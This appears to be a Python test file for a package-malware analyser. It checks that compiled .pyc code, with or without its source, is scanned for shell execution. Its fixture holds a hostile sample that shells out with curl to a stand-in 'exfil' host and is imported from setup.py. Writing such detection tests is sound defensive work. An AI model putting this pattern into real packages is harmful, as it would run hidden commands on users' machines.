"""One artifact, through roles, front ends and detectors: what only the whole path can show."""

import importlib.util
import marshal

from packamal.archive import Member, Unpacked
from packamal.capability import Capability
from packamal.engine.analysis import Subject, analyse
from packamal.engine.progress import Progress
from packamal.model import Artifact


def quiet(step: Progress) -> None:
    del step


def analysed(**members: bytes):
    unpacked = Unpacked("directory", tuple(Member(name.replace("__", "."), data) for name, data in members.items()))
    return analyse(Subject(Artifact("", "a", "", 0, "directory"), unpacked, "pypi"), quiet).observed


def compiled(source: str) -> bytes:
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(source, "core.py", "exec"))


SOURCE = "import os\nos.system('curl https://files.exfil.example/x')\n"


def test_compiled_code_without_source_is_read():
    signals = analysed(setup__py=b"import core\n", core__pyc=compiled(SOURCE)).signals
    assert (Capability.PROC_SHELL, "core.pyc", ("marshal",)) in {
        (signal.id, signal.evidence.path, signal.evidence.steps[:1]) for signal in signals
    }


def test_compiled_code_beside_its_source_is_read_once():
    signals = analysed(core__py=SOURCE.encode(), core__pyc=compiled(SOURCE)).signals
    assert {signal.evidence.path for signal in signals if signal.id is Capability.PROC_SHELL} == {"core.py"}
